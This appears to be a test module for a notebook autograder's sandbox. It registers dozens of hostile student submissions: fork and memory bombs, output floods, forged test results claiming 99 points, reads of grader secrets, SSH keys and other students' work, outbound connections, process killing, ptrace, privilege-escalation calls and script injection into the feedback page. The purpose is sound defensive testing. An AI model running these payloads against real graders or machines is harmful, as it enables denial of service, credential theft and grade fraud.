"""Submissions that hang, crash, flood, or reach for what is not theirs while they run.

The hostile code stands at the top of the answer cell of `ridge`, above a right answer, unless a
case says otherwise: what is lost then is what the incident itself costs.
"""

from pathlib import Path

import mini_course as mini
from corpus import FULL, OTHERS, PARTIAL, RUN, SECRET_VARIABLE, Case, Targets, add, answer

_RIGHT = mini.RIGHT["ridge"]


def attack(
    name: str,
    points: str,
    about: str,
    code: str,
    *verdicts: str,
    lost: str = "",
    unsafe: str = "",
    after: bool = False,
) -> None:
    """Register a case whose ridge cell holds `code` before (or `after`) a right answer.

    In `code`, ``$SECRET``, ``$OUTSIDE``, ``$NEIGHBOUR``, ``$PORT`` and ``$VARIABLE`` stand for
    the targets.
    """

    def build(folder: Path, targets: Targets) -> None:
        text = fill(code, targets)
        parts = [_RIGHT, text] if after else [text, _RIGHT]
        answer(folder, "ridge", "\n".join(parts))

    add(Case(name, about, build, points, verdicts, tuple(lost.split()), RUN, unsafe))


def fill(code: str, targets: Targets) -> str:
    values = {
        "$SECRET": repr(str(targets.secret)),
        "$OUTSIDE": repr(str(targets.outside)),
        "$NEIGHBOUR": repr(str(targets.neighbour)),
        "$PORT": str(targets.port),
        "$VARIABLE": repr(SECRET_VARIABLE),
    }
    for name, value in values.items():
        code = code.replace(name, value)
    return code


# -------------------------------------------------------------------------------------- hangs

attack(
    "endless-loop",
    OTHERS,
    "a loop that never ends",
    "while True:\n    pass",
    "cell-timeout",
    lost="ridge",
)
attack(
    "endless-answer",
    OTHERS,
    "the answer itself never returns",
    "def slow(*_):\n    while True:\n        pass",
    lost="ridge",
)
attack(
    "endless-and-deaf",
    PARTIAL,
    "a loop that swallows every exception, interrupts too",
    "while True:\n    try:\n        while True:\n            pass\n"
    "    except BaseException:\n        pass",
    "kernel-hung",
    "notebook-timeout",
    lost="ridge",
)
attack(
    "endless-in-c",
    PARTIAL,
    "an endless call into compiled code",
    "import itertools\nsum(itertools.repeat(0))",
    "kernel-hung",
    "notebook-timeout",
    "cell-timeout",
    lost="ridge",
)
attack(
    "signals-ignored",
    PARTIAL,
    "every signal handler replaced, then a loop",
    "import signal\n"
    "for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:\n"
    "    signal.signal(number, signal.SIG_IGN)\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))\n"
    "while True:\n    pass",
    "kernel-hung",
    "notebook-timeout",
    lost="ridge",
)
attack(
    "sleeps-for-ever",
    OTHERS,
    "sleeps for an hour",
    "import time\ntime.sleep(3600)",
    "cell-timeout",
    lost="ridge",
)
attack(
    "waits-for-input",
    OTHERS,
    "asks for keyboard input",
    "input('your name? ')",
    lost="ridge",
)
attack(
    "stops-itself",
    PARTIAL,
    "stops its own process with SIGSTOP",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
)
attack(
    "late-thread",
    FULL,
    "a thread that never ends",
    "import threading\nthreading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()",
    unsafe="leaves a busy thread until the kernel is killed",
)

# ------------------------------------------------------------------------------------ crashes

attack(
    "hard-exit",
    PARTIAL,
    "ends the process at once",
    "import os\nos._exit(0)",
    "kernel-died",
    lost="ridge",
)
attack(
    "sys-exit",
    OTHERS,
    "calls sys.exit before the answer",
    "import sys\nsys.exit()",
    lost="ridge",
)
attack("quits", FULL, "asks IPython to quit", "quit()")
attack(
    "segmentation-fault",
    PARTIAL,
    "reads address 0",
    "import ctypes\nctypes.string_at(0)",
    "kernel-died",
    lost="ridge",
)
attack(
    "stack-overflow",
    PARTIAL,
    "recurses until the C stack is gone",
    "import sys\nsys.setrecursionlimit(10**9)\n"
    "class Deep:\n    def __repr__(self):\n        return repr(self)\n"
    "def down(n):\n    return sorted([n], key=down)\ndown(0)",
    lost="ridge",
    unsafe="fills the memory where there is no limit",
)
attack(
    "closes-everything",
    PARTIAL,
    "closes every file descriptor of the kernel",
    "import os\nos.closerange(0, 4096)",
    "kernel-died",
    "kernel-hung",
    "notebook-timeout",
    "cell-timeout",
)

# -------------------------------------------------------------------------------------- floods

attack(
    "memory-bomb",
    PARTIAL,
    "takes memory until there is none",
    "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * (64 << 20)))",
    lost="ridge",
    unsafe="takes all memory of the machine",
)
attack(
    "memory-at-once",
    OTHERS,
    "asks for 1 TB at once",
    "block = bytearray(10**12)",
    lost="ridge",
    unsafe="takes all memory of the machine where the system promises more than it has",
)
attack(
    "fork-bomb",
    PARTIAL,
    "forks without end",
    "import os\nwhile True:\n    os.fork()",
    "processes-limit",
    "left-running",
    "cell-timeout",
    "kernel-hung",
    "kernel-died",
    "notebook-timeout",
    lost="ridge",
    unsafe="brings the machine down",
)
attack(
    "thread-bomb",
    OTHERS,
    "starts threads without end",
    "import threading, time\nwhile True:\n"
    "    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()",
    lost="ridge",
    unsafe="brings the machine down",
)
attack(
    "daemon-left-behind",
    FULL,
    "a process in a session of its own, meant to outlive the grading",
    "import os, subprocess, sys\n"
    "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)  # canary-daemon'],\n"
    "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
)
attack(
    "disk-filler",
    OTHERS,
    "writes until the disk is full",
    "block = bytes(1 << 20)\nfor part in range(1 << 20):\n"
    "    with open(f'fill-{part}', 'wb') as file:\n"
    "        for _ in range(64):\n            file.write(block)",
    lost="ridge",
    unsafe="fills the disk",
)
attack(
    "million-files",
    PARTIAL,
    "creates empty files without end",
    "number = 0\nwhile True:\n    open(f'f{number}', 'w').close()\n    number += 1",
    lost="ridge",
    unsafe="takes all inodes of the disk",
)
attack(
    "prints-100-megabytes",
    PARTIAL,
    "prints 100 MB in one line",
    "print('x' * 100_000_000)",
    "output-flood",
    after=True,
    unsafe="the message alone takes a gigabyte of the grader's memory",
)
attack(
    "prints-a-million-lines",
    PARTIAL,
    "prints 1,000,000 lines",
    "for number in range(1_000_000):\n    print(number, flush=False)",
    "output-flood",
    "cell-timeout",
    after=True,
)
attack(
    "prints-without-end",
    PARTIAL,
    "prints without end",
    "while True:\n    print('x' * 10_000)",
    "output-flood",
    "cell-timeout",
    lost="ridge",
    unsafe="fills the grader's memory",
)
attack(
    "prints-on-into-the-tests",
    PARTIAL,
    "prints more than the limit, goes on, and answers wrong",
    "print('x' * 2_500_000)\n" + mini.WRONG["ridge"],
    "output-flood",
    after=True,
    lost="ridge",
)
attack(
    "interrupted-while-printing",
    PARTIAL,
    "prints without end, survives the interrupt, and answers wrong",
    "import time\ntry:\n    while True:\n        print('x' * 100_000)\n        time.sleep(0.05)\n"
    "except KeyboardInterrupt:\n    pass\n" + mini.WRONG["ridge"],
    "output-flood",
    after=True,
    lost="ridge",
    unsafe="prints until the cell's time is over",
)
attack(
    "pictures-without-end",
    PARTIAL,
    "displays pictures without end",
    "import os\nfrom IPython.display import Image, display\nwhile True:\n"
    "    display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(1 << 20), format='png'))",
    "output-flood",
    "cell-timeout",
    lost="ridge",
    unsafe="fills the grader's memory",
)
attack(
    "huge-repr",
    PARTIAL,
    "the last expression prints as 200 MB",
    "class Wide:\n    def __repr__(self):\n        return 'w' * 200_000_000\nWide()",
    "output-flood",
    "cell-timeout",
    "out-of-memory",
    after=True,
    unsafe="fills the grader's memory",
)

# ------------------------------------------------------- what nobody can read, store or parse

_SEND = (
    "ip = get_ipython(); k = ip.kernel\n"
    "def send(kind, content):\n"
    "    k.session.send(k.iopub_socket, kind, content, parent=k.get_parent('shell'))\n"
)
_SENDING = "def ridge(p, b):\n    send('execute_result', {'data': $DATA,\n" + (
    "         'metadata': {}, 'execution_count': 5})\n    return p / b"
)
attack(
    "seven-thousand-signs",
    PARTIAL,
    "a number with 7,000 signs, which Python's parser gives up on",
    "x = " + "-" * 7000 + "1",
    lost="ridge",
    after=True,
)
attack(
    "five-thousand-branches",
    PARTIAL,
    "5,000 branches, which Python's parser gives up on",
    "if 0: pass\n" + "elif 0: pass\n" * 5000,
    lost="ridge",
    after=True,
)
attack(
    "sends-99-points",
    PARTIAL,
    "sends 99 points as the result of the test cell",
    _SEND + _SENDING.replace("$DATA", "{'text/plain': '99.0'}"),
    lost="ridge",
    after=True,
)
attack(
    "sends-an-empty-result",
    PARTIAL,
    "sends a result without any data as that of the test cell",
    _SEND + _SENDING.replace("$DATA", "{}"),
    lost="ridge",
    after=True,
)
attack(
    "sends-no-data",
    PARTIAL,
    "sends a picture whose data is null",
    _SEND + "send('display_data', {'data': None, 'metadata': None})",
    "bad-output",
    after=True,
)
attack(
    "sends-odd-fields",
    PARTIAL,
    "sends a picture with text where a mapping belongs",
    _SEND + "send('display_data', {'data': {}, 'metadata': {}, 'transient': 'abc'})",
    "bad-output",
    after=True,
)
attack(
    "metadata-flood",
    PARTIAL,
    "shows little, with 300 MB of metadata",
    "from IPython.display import publish_display_data\n"
    "for i in range(60):\n    publish_display_data({'text/plain': 'x'}, {'k': 'A' * 5_000_000})",
    "output-flood",
    after=True,
    unsafe="fills the grader's memory",
)
attack(
    "widgets",
    FULL,
    "prints into a widget, as a learner may",
    "import ipywidgets\nwith ipywidgets.Output():\n    print('hi')",
    after=True,
)

# ------------------------------------------------------------------- what is not theirs to read

# `tried` must fail or find nothing: what succeeds prints OPENED, put together only then, so that
# the word stands in an output and not in the code.
_TRY = """\
def tried(what, how):
    try:
        found = how()
    except BaseException as error:
        print(what, 'refused', type(error).__name__)
    else:
        print(what, found, 'CANARY-' + 'OPENED' if found else 'nothing')
"""

attack(
    "reads-the-secret",
    FULL,
    "reads a file of the grader (gradebook, solutions)",
    _TRY + "tried('file', lambda: open($SECRET).read())\n"
    "import subprocess\ntried('cat', lambda: subprocess.run(['cat', $SECRET], "
    "capture_output=True, text=True).stdout)\n"
    "import os\ntried('link', lambda: os.symlink($SECRET, 'l') or open('l').read())\n"
    "tried('hard', lambda: os.link($SECRET, 'h') or open('h').read())\n"
    "tried('root', lambda: open('/proc/self/root' + $SECRET).read())",
)
attack(
    "reads-the-solutions",
    FULL,
    "reads the instructor's notebooks, the gradebook and the package's reference answers",
    _TRY + "import os, syslab\ncourse = os.path.join(os.path.dirname($SECRET), 'course')\n"
    "for name in ('source', 'gradebook.db', 'submitted', 'autograded', '.syslab'):\n"
    "    path = os.path.join(course, name)\n"
    "    folder = os.path.isdir(path)\n"
    "    tried(name, lambda: os.listdir(path) if folder else open(path, 'rb').read(9))\n"
    "answers = os.path.join(os.path.dirname(syslab.__file__), 'grading', 'demo_answers')\n"
    "tried('answers', lambda: os.listdir(answers))",
)
attack(
    "reads-a-neighbour",
    FULL,
    "lists and reads another student's submission",
    _TRY + "import glob, os\n"
    "tried('list', lambda: os.listdir($NEIGHBOUR))\n"
    "tried('read', lambda: [open(p).read() for p in glob.glob($NEIGHBOUR + '/*')])",
)
attack(
    "reads-the-environment",
    FULL,
    "reads secrets from its own and every other process's environment",
    _TRY + "import glob, os\n"
    "tried('own', lambda: os.environ.get($VARIABLE))\n"
    "for place in glob.glob('/proc/[0-9]*/environ'):\n"
    "    tried(place, lambda: [x for x in open(place, 'rb').read().split(b'\\0')\n"
    "                          if $VARIABLE.encode() in x])",
)
attack(
    "reads-home",
    FULL,
    "reads keys and histories in the grader's home folder",
    _TRY + "import os, pwd\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
    "for name in ('.ssh', '.bash_history', '.netrc', '.pgpass', '.gitconfig'):\n"
    "    path = os.path.join(home, name)\n"
    "    tried(name, lambda: os.listdir(path) if os.path.isdir(path) else open(path).read(20))",
)
attack(
    "walks-the-disk",
    FULL,
    "searches the whole disk for gradebooks and solutions",
    "import os, time\nfound, until = [], time.monotonic() + 2\n"
    "for place, folders, names in os.walk('/'):\n"
    "    folders[:] = [f for f in folders if f != 'site-packages']  # nbgrader carries an example\n"
    "    found += [n for n in names if n == 'gradebook.db' or n.startswith('canary-secret')]\n"
    "    if time.monotonic() > until:\n        break\n"
    "print(found, 'CANARY-' + 'OPENED' if found else 'nothing')",
)

# -------------------------------------------------------------------------- what is not theirs

attack(
    "connects-out",
    FULL,
    "connects to a port of this machine and to the internet",
    _TRY + "import socket\n"
    "tried('here', lambda: socket.create_connection(('127.0.0.1', $PORT), 1).sendall(b'hi'))\n"
    "tried('out', lambda: socket.create_connection(('192.0.2.1', 80), 1))\n"
    "try:\n    socket.socket(type=socket.SOCK_DGRAM).sendto(b'hi', ('127.0.0.1', $PORT))\n"
    "except OSError:\n    pass\n"
    "tried('v6', lambda: socket.create_connection(('::1', $PORT), 1))",
)
attack(
    "resolves-names",
    FULL,
    "sends data out in a name look-up",
    _TRY + "import socket\ntried('name', lambda: socket.getaddrinfo('canary.example.invalid', 80))",
)
attack(
    "writes-elsewhere",
    FULL,
    "writes into folders outside its own",
    _TRY + "import os\n"
    "tried('file', lambda: open(os.path.join($OUTSIDE, 'planted'), 'w').write('x'))\n"
    "tried('folder', lambda: os.mkdir(os.path.join($OUTSIDE, 'planted-folder')) or 1)\n"
    "tried('remove', lambda: os.remove($SECRET) or 1)\n"
    "tried('rename', lambda: os.rename($SECRET, $SECRET + '.moved') or 1)\n"
    "tried('cut', lambda: os.truncate($SECRET, 0) or 1)\n"
    "tried('mode', lambda: os.chmod($SECRET, 0o777) or 1)\n"
    "tried('time', lambda: os.utime($SECRET, (0, 0)) or 1)",
)
attack(
    "removes-its-folder",
    PARTIAL,
    "removes everything in its working folder",
    "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/')",
)
attack(
    "kills-its-parent",
    PARTIAL,
    "kills the process that started it",
    _TRY + "import os, signal\ntried('parent', lambda: os.kill(os.getppid(), signal.SIGKILL))",
    unsafe="kills the grader",
)
attack(
    "kills-its-group",
    PARTIAL,
    "kills its process group",
    "import os, signal\nos.killpg(0, signal.SIGKILL)",
    unsafe="may kill the grader",
)
attack(
    "kills-everything",
    PARTIAL,
    "kills every process it may",
    "import os, signal\nos.kill(-1, signal.SIGKILL)",
    unsafe="kills every process of the user",
)
attack(
    "traces-processes",
    FULL,
    "attaches to other processes and reads their memory",
    _TRY + "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "for pid in {os.getppid(), 1}:\n"
    "    tried(('ptrace', pid), lambda: libc.ptrace(16, pid, 0, 0) == 0)\n"
    "    tried(('maps', pid), lambda: len(open(f'/proc/{pid}/mem', 'rb').read(1)))",
    unsafe="may stop the grader",
)
attack(
    "mounts-and-namespaces",
    FULL,
    "tries to gain privileges through new namespaces and mounts",
    _TRY + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "tried('unshare', lambda: libc.unshare(0x10000000 | 0x00020000) == 0)\n"
    "tried('mount', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0)\n"
    "tried('setuid', lambda: libc.setuid(0) == 0)\n"
    "tried('chroot', lambda: libc.chroot(b'.') == 0)",
    unsafe="changes the kernel's own view of the machine",
)
attack(
    "leaves-a-spy-in-the-package",
    FULL,
    "writes into the installed packages, for the next submission to import",
    _TRY + "import os, syslab\nplace = os.path.dirname(syslab.__file__)\n"
    "tried('file', lambda: open(os.path.join(place, 'canary_planted.py'), 'w').write('x'))",
    unsafe="changes the installed course",
)
attack(
    "script-in-run-output",
    FULL,
    "displays scripts aimed at the feedback page while it runs",
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML(\"<script>document.title='owned-by-run'</script>\"))\n"
    "display(Javascript(\"document.title='owned-by-run'\"))\n"
    "print('<script>document.title=\"owned-by-print\"</script>')\n"
    "print('\\x1b]0;owned\\x07\\x1b[2J')",
)


def _endless_answer(folder: Path, _: Targets) -> None:
    answer(folder, "ridge", "def ridge(peak_flops, bandwidth):\n    while True:\n        pass")


def _javascript_cell(folder: Path, _: Targets) -> None:
    answer(folder, "ridge", "%%javascript\ndocument.title = 'owned-by-magic'")


def _shell_cell(folder: Path, targets: Targets) -> None:
    code = fill("!cat $SECRET\n!touch $OUTSIDE/planted-by-shell\n", targets).replace("'", "")
    answer(folder, "ridge", code + _RIGHT)


def _replace(name: str, build: object) -> None:
    from dataclasses import replace

    from corpus import CASES

    CASES[name] = replace(CASES[name], build=build)


_replace("endless-answer", _endless_answer)
add(
    Case(
        "javascript-cell",
        "the answer is a cell of JavaScript",
        _javascript_cell,
        OTHERS,
        (),
        ("ridge",),
    )
)
add(Case("shell-cell", "shell commands read a secret and write elsewhere", _shell_cell, FULL))
